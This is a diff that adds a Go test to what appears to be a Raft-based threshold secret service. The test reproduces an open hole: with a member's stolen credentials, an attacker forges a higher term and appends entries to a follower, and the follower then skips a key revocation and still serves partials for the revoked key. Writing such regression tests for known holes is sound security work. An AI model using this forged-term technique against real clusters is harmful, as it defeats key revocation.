@@ -717,3 +717,123 @@ func TestStolenDataDirOverTheNetwork(t *testing.T) {
 		}
 	}
 }
+
+// TestOpenHoleForgedTermMakesAFollowerSkipARevoke shows a hole that is
+// open (docs/threat-model.md, "What is open"): it passes while the attack
+// works, and its last check is to be turned round when it is closed.
+//
+// Raft believes whoever leads the highest term, and a member's
+// certificate is all the node port asks of a peer. The thief of a running
+// member's data directory (or that member, compromised) opens a Raft
+// stream to a follower as that member, claims the next term and appends
+// and commits entries of its own past the follower's log: the state
+// machine refuses each, but the follower has applied those indexes. The
+// real members elect a leader of that term or a later one, whose entries
+// at those indexes differ, and a revoke lands there: the follower never
+// applies it (Raft's log matching takes a term for a leader), reads its
+// applied index as past the leader's read index, and answers a holder's
+// partial for the revoked key. With the attacker's own share, t=2, a
+// revoked key opened to its gateways is released.
+func TestOpenHoleForgedTermMakesAFollowerSkipARevoke(t *testing.T) {
+	c := newTestCluster(t, 3)
+	c.createSecret("luks/kept", randomBytes(t, 32))
+	leader := c.leader()
+	var follower, victim *testNode
+	for _, tn := range c.nodes {
+		switch {
+		case tn == leader:
+		case follower == nil:
+			follower = tn
+		default:
+			victim = tn
+		}
+	}
+	c.waitHasKey(follower, "luks/kept")
+	s := stealCreds(t, copyDir(t, victim.cfg.DataDir))
+	tr := s.raftTransport(t)
+	hdr := raft.RPCHeader{ProtocolVersion: raft.ProtocolVersionMax, ID: []byte(s.id.NodeID), Addr: []byte(victim.cfg.RaftAddr)}
+	var probe raft.AppendEntriesResponse
+	if err := tr.AppendEntries(raft.ServerID(follower.id()), raft.ServerAddress(follower.cfg.RaftAddr),
+		&raft.AppendEntriesRequest{RPCHeader: hdr}, &probe); err != nil {
+		t.Fatalf("the stolen credentials open no Raft stream to %s: %v", follower.id(), err)
+	}
+	const forged = 64
+	term, next := probe.Term+1, probe.LastLog+1
+	var entries []*raft.Log
+	for i := range uint64(forged) {
+		data, err := json.Marshal(s.sign(t, &fsm.Command{Type: fsm.TypeRevokeKey, RevokeKey: "luks/none"}))
+		if err != nil {
+			t.Fatal(err)
+		}
+		entries = append(entries, &raft.Log{Index: next + i, Term: term, Type: raft.LogCommand, Data: data, AppendedAt: time.Now()})
+	}
+	var resp raft.AppendEntriesResponse
+	if err := tr.AppendEntries(raft.ServerID(follower.id()), raft.ServerAddress(follower.cfg.RaftAddr), &raft.AppendEntriesRequest{
+		RPCHeader: hdr, Term: term, Entries: entries, LeaderCommitIndex: next + forged - 1}, &resp); err != nil || !resp.Success {
+		t.Fatalf("the forged append to %s: %v, success %v: the attack did not reach the follower's log", follower.id(), err, resp.Success)
+	}
+	c.waitFor(settleTimeout, func() (bool, string) {
+		applied, _ := follower.n.cons.rfsm.watch()
+		return applied >= next+forged-1, fmt.Sprintf("%s has applied %d, not yet the forged entries through %d", follower.id(), applied, next+forged-1)
+	})
+
+	// The real members elect a leader of the forged term or a later one
+	// (the follower's answer of the forged term ends the old leader's),
+	// while the thief keeps the follower to itself with heartbeats; an
+	// operator revokes the key: the revoke's index is among the forged
+	// ones.
+	stop := make(chan struct{})
+	beating := make(chan struct{})
+	go func() {
+		defer close(beating)
+		for {
+			select {
+			case <-stop:
+				return
+			case <-time.After(100 * time.Millisecond):
+			}
+			var r raft.AppendEntriesResponse
+			tr.AppendEntries(raft.ServerID(follower.id()), raft.ServerAddress(follower.cfg.RaftAddr),
+				&raft.AppendEntriesRequest{RPCHeader: hdr, Term: term}, &r)
+		}
+	}()
+	c.waitFor(settleTimeout, func() (bool, string) {
+		for _, tn := range []*testNode{leader, victim} {
+			r := tn.n.cons.current().raft
+			if r.State() == raft.Leader && r.CurrentTerm() >= term {
+				t.Logf("%s leads in term %d (forged term %d)", tn.id(), r.CurrentTerm(), term)
+				return true, ""
+			}
+		}
+		return false, fmt.Sprintf("no leader of a term from the forged one on among the real members: %s %v, %s %v",
+			leader.id(), leader.n.cons.current().raft.Stats()["term"], victim.id(), victim.n.cons.current().raft.Stats()["term"])
+	})
+	close(stop)
+	<-beating
+	ctx, cancel := context.WithTimeout(context.Background(), opTimeout)
+	defer cancel()
+	res, err := c.leader().n.Submit(ctx, c.sign(&fsm.Command{Type: fsm.TypeRevokeKey, RevokeKey: "luks/kept"}))
+	if err != nil {
+		t.Fatalf("revoking: %v", err)
+	}
+	t.Logf("forged entries %d..%d; the revoke is entry %d", next, next+forged-1, res.Index)
+	if res.Index >= next+forged {
+		t.Fatalf("the revoke landed at %d, past the forged entries: the test proves nothing", res.Index)
+	}
+
+	// The follower never applies the revoke and answers for the key.
+	var answered bool
+	c.waitFor(settleTimeout, func() (bool, string) {
+		var revoked bool
+		follower.n.fsm.Read(func(st *fsm.State) { revoked = st.Keys["luks/kept"].State == fsm.KeyRevoked })
+		if revoked {
+			t.Fatalf("%s applied the revoke at entry %d: the hole is closed, turn this test round", follower.id(), res.Index)
+		}
+		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
+		_, err := follower.n.answerSealedPartial(ctx, c.holderRequest("luks/kept", 0))
+		cancel()
+		answered = err == nil
+		return answered, fmt.Sprintf("%s refuses: %v", follower.id(), err)
+	})
+	t.Logf("%s answered a partial for the key revoked at entry %d, which it skipped (open hole)", follower.id(), res.Index)
+}
